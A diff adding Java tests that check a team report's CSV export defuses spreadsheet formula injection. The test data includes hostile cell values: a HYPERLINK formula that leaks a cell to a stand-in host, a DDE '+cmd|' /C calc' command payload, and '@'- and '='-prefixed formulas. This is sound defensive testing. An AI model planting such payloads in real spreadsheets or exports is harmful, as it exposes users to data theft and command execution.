@@ -42,6 +42,8 @@ class TeamReportResourceTest {
     private static final UUID ZOE = UUID.fromString("00000000-0000-4000-8000-000000000002");
     private static final UUID NEW = UUID.fromString("00000000-0000-4000-8000-000000000003");
 
+    private static final com.fasterxml.jackson.databind.ObjectMapper JSON = new com.fasterxml.jackson.databind.ObjectMapper();
+
     @ReportBackends.Inject
     WireMockServer services;
 
@@ -137,6 +139,87 @@ class TeamReportResourceTest {
                 .containsEntry("top_gaps", "influence;customer-discovery")
                 .containsEntry("evidence_90d", "execution-delivery:3");
         assertThat(all.get(1)).containsEntry("name", "Zoë Ångström").containsEntry("plan_status", "");
+    }
+
+    @Test
+    void csvCellsThatASpreadsheetWouldRunAsFormulasAreInertAndTheReportsNumbersAreNot() throws Exception {
+        UUID manager = UUID.randomUUID();
+        List<String> hostile = List.of("=HYPERLINK(\"http://x/?leak=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3",
+                "@SUM(A1)", "\tTabbed", "\rReturned");
+        List<Map<String, Object>> people = new java.util.ArrayList<>();
+        List<String> names = new java.util.ArrayList<>(hostile);
+        names.add("Ada Lovelace");
+        List<UUID> ids = new java.util.ArrayList<>();
+        for (int i = 0; i < names.size(); i++) {
+            UUID id = UUID.randomUUID();
+            ids.add(id);
+            Map<String, Object> person = new java.util.HashMap<>();
+            person.put("id", id.toString());
+            person.put("name", names.get(i));
+            person.put("email", "p" + i + "@example.com");
+            person.put("level", i == 0 ? "=LEVEL()" : "PM");
+            person.put("targetLevel", null);
+            person.put("managerId", manager.toString());
+            person.put("depth", 1);
+            people.add(person);
+        }
+        UUID ada = ids.getLast();
+        services.stubFor(get(urlPathEqualTo("/api/v1/people/" + manager + "/team")).willReturn(json(JSON.writeValueAsString(
+                Map.of("managerId", manager.toString(), "allLevels", false, "people", people)))));
+        services.stubFor(post("/api/v1/readiness/bulk").willReturn(json("""
+                {"frameworkVersion":1,"evidenceAvailable":true,"people":[
+                  {"personId":"%s","targetLevel":"SENIOR_PM","readinessPercent":72,"status":"EMERGING",
+                   "topGaps":["-influence"],"lastAssessmentAt":null,"competencies":null}],
+                 "competencyTotals":[
+                  {"competency":"influence","rated":2,"ratingSum":8.0,"expectedOf":2,"expectedSum":6.0},
+                  {"competency":"@evil","rated":1,"ratingSum":1.0,"expectedOf":1,"expectedSum":2.0}]}
+                """.formatted(ada))));
+        services.stubFor(post("/api/v1/evidence/counts").willReturn(json("{\"counts\":[]}")));
+        services.stubFor(post("/api/v1/plans/status/bulk").willReturn(json("{\"progressStale\":false,\"people\":[]}")));
+
+        List<Map<String, String>> rows = readCsv(given().header("Authorization", TestTokens.admin()).accept("text/csv")
+                .get("/api/v1/teams/{id}/report", manager).then().statusCode(200).extract().asString());
+
+        assertThat(rows).hasSize(names.size());
+        for (int i = 0; i < hostile.size(); i++) {
+            assertThat(rows.get(i).get("name")).startsWith("'").isEqualTo("'" + hostile.get(i));
+        }
+        assertThat(rows.get(0)).containsEntry("level", "'=LEVEL()");
+        assertThat(rows.getLast()).containsEntry("name", "Ada Lovelace").containsEntry("level", "PM")
+                .containsEntry("email", "p6@example.com").containsEntry("depth", "1")
+                .containsEntry("readiness_percent", "72").containsEntry("top_gaps", "'-influence");
+
+        String heatmapCsv = given().header("Authorization", TestTokens.admin()).accept("text/csv")
+                .queryParam("view", "heatmap").get("/api/v1/teams/{id}/report", manager).then().statusCode(200)
+                .contentType(containsString("text/csv"))
+                .header("Content-Disposition", containsString("team-" + manager + "-heatmap.csv"))
+                .extract().asString();
+        assertThat(heatmapCsv.lines().findFirst().orElseThrow())
+                .isEqualTo("competency,team_average,expected_average,gap,rated,expected_of");
+        List<Map<String, String>> heatmap = readCsv(heatmapCsv);
+        // The team is above expectations in influence: a negative gap the report computed, not text.
+        assertThat(heatmap.get(0)).containsEntry("competency", "influence").containsEntry("team_average", "4.0")
+                .containsEntry("expected_average", "3.0").containsEntry("gap", "-1.0")
+                .containsEntry("rated", "2").containsEntry("expected_of", "2");
+        assertThat(heatmap.get(1)).containsEntry("competency", "'@evil").containsEntry("gap", "1.0");
+    }
+
+    @Test
+    void theHeatmapCsvNeedsReadinessAndViewIsChecked() {
+        services.stubFor(post("/api/v1/readiness/bulk").willReturn(aResponse().withStatus(503)));
+        given().header("Authorization", TestTokens.admin()).accept("text/csv").queryParam("view", "heatmap")
+                .queryParam("depth", "all").get("/api/v1/teams/{id}/report", MANAGER).then().statusCode(503)
+                .contentType("application/problem+json")
+                .body("detail", containsString("assessment-service"));
+        given().header("Authorization", TestTokens.admin()).accept("text/csv").queryParam("view", "sideways")
+                .get("/api/v1/teams/{id}/report", MANAGER).then().statusCode(400)
+                .body("violations[0].field", equalTo("view"));
+    }
+
+    private static List<Map<String, String>> readCsv(String csv) throws java.io.IOException {
+        MappingIterator<Map<String, String>> rows = new CsvMapper().readerForMapOf(String.class)
+                .with(CsvSchema.emptySchema().withHeader()).readValues(csv);
+        return rows.readAll();
     }
 
     @Test
